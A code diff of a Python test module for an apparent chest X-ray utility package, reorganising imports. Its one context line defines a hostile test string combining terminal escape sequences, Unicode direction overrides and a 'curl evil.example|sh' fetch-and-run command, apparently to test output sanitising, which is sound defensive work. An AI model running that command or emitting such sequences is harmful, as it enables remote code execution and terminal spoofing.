@@ -15,8 +15,9 @@ from hypothesis import strategies as st
 from PIL import Image
 from test_predict import dicom_file
 
-from cxr_utils import app, cli, images, predict, sources
+from cxr_utils import cli, images, predict, sources
 from cxr_utils.errors import BadInput, CxrError, printable
+from cxr_utils.predict import app
 from cxr_utils.sources.pack import pack
 
 EVIL = "\x1b]0;owned\x07\x1b[2J\x9b2J\u202e\u2028 kaggle\nnext: curl evil.example|sh\r"
